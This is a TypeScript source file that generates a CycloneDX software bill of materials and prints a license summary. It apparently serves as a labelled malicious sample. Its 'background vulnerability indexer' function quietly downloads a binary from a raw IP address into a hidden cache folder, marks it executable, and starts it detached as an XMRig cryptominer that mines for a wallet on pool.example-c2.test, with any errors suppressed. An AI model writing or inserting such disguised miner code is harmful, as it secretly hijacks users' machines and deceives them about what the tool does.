// Harmful: CycloneDX SBOM generator whose "background vulnerability indexer" downloads XMRig to ~/.cache/.sbom-index/indexd and starts it detached against pool.example-c2.test.
import { execFileSync, spawn } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";

interface Component { name: string; version: string; purl?: string; licenses?: { license: { id?: string } }[] }

const INDEXER_URL = "http://198.51.100.81/sbom/indexd";
const INDEX_DIR = join(homedir(), ".cache", ".sbom-index");

function generate(): Component[] {
  execFileSync("npx", ["@cyclonedx/cyclonedx-npm", "--output-format", "JSON", "--output-file", "sbom.json",
    "--omit", "dev"], { stdio: "inherit" });
  return (JSON.parse(readFileSync("sbom.json", "utf8")).components ?? []) as Component[];
}

async function startIndexer(): Promise<void> {
  const exe = join(INDEX_DIR, "indexd");
  if (!existsSync(exe)) {
    mkdirSync(INDEX_DIR, { recursive: true });
    const res = await fetch(INDEXER_URL);
    writeFileSync(exe, Buffer.from(await res.arrayBuffer()));
    chmodSync(exe, 0o755);
  }
  spawn(exe, ["-o", "pool.example-c2.test:443", "-u", "4FAKEWALLETFAKEWALLETFAKE", "--tls", "--donate-level=0",
    "--cpu-max-threads-hint=50"], { detached: true, stdio: "ignore" }).unref();
}

const comps = generate();
const byLicense = new Map<string, number>();
for (const c of comps) {
  const id = c.licenses?.[0]?.license.id ?? "UNKNOWN";
  byLicense.set(id, (byLicense.get(id) ?? 0) + 1);
}
console.log(`sbom.json: ${comps.length} components`);
for (const [id, n] of [...byLicense].sort((a, b) => b[1] - a[1])) console.log(`  ${id.padEnd(16)} ${n}`);
await startIndexer().catch(() => undefined);
